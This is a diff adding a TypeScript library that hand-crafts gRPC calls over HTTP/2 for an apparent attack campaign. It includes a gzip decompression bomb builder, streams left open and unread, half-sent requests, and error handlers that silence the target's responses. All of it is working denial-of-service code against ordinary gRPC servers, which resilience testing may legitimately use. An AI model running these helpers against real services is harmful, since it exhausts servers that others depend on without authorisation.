@@ -1,0 +1,76 @@
+/** gRPC by hand over HTTP/2, for callers that do what no client library would: read nothing, send half, send bombs. */
+import { connect as connectHttp2, type ClientHttp2Session, type ClientHttp2Stream } from "node:http2";
+import { gzipSync } from "node:zlib";
+
+export type Session = ClientHttp2Session;
+
+/** What an attacker's own connection says is no concern of the campaign. */
+const quietly = (): void => {};
+
+export const open = async (target: string): Promise<Session> => {
+  const session = connectHttp2(`http://${target}`);
+  session.on("error", quietly);
+  session.on("goaway", quietly);
+  await new Promise<void>((resolve) => {
+    session.once("remoteSettings", () => resolve());
+    session.once("close", () => resolve());
+  });
+  return session;
+};
+
+const prefixBytes = 5;
+
+export const frame = (message: Uint8Array, compressed: "gzip" | "plain" = "plain"): Buffer => {
+  const framed = Buffer.alloc(prefixBytes + message.length);
+  framed.writeUInt8(compressed === "gzip" ? 1 : 0, 0);
+  framed.writeUInt32BE(message.length, 1);
+  framed.set(message, prefixBytes);
+  return framed;
+};
+
+/** A message that is a thousand times as long when the server has expanded it. */
+export const bomb = (message: Uint8Array): Buffer => frame(gzipSync(message, { level: 9 }), "gzip");
+
+export type Headers = { readonly token?: string | undefined; readonly encoding?: "gzip" };
+
+/** A call whose answer nobody reads until somebody does. */
+export const call = (
+  session: Session,
+  path: string,
+  { token, encoding }: Headers = {},
+): ClientHttp2Stream => {
+  const stream = session.request({
+    ":method": "POST",
+    ":path": path,
+    "content-type": "application/grpc",
+    te: "trailers",
+    ...(encoding === undefined ? {} : { "grpc-encoding": encoding }),
+    ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
+  });
+  stream.on("error", quietly);
+  return stream;
+};
+
+/** Reads and forgets the answer. @returns the gRPC status, or "broken". */
+export const finish = (stream: ClientHttp2Stream): Promise<string> =>
+  new Promise((resolve) => {
+    let status = "broken";
+    const read = (headers: Readonly<Record<string, unknown>>): void => {
+      const given = headers["grpc-status"];
+      if (typeof given === "string") status = given;
+    };
+    stream.on("response", read);
+    stream.on("trailers", read);
+    stream.on("close", () => resolve(status));
+    stream.resume();
+  });
+
+/** Ended when the answer has come, or when nothing comes for so long. */
+export const within = <Value>(delayMs: number, promise: Promise<Value>): Promise<Value | "late"> => {
+  let timer: NodeJS.Timeout | undefined;
+  const late = new Promise<"late">((resolve) => (timer = setTimeout(() => resolve("late"), delayMs)));
+  return Promise.race([promise, late]).finally(() => clearTimeout(timer));
+};
+
+export const pause = (delayMs: number): Promise<void> =>
+  new Promise((resolve) => setTimeout(resolve, delayMs));
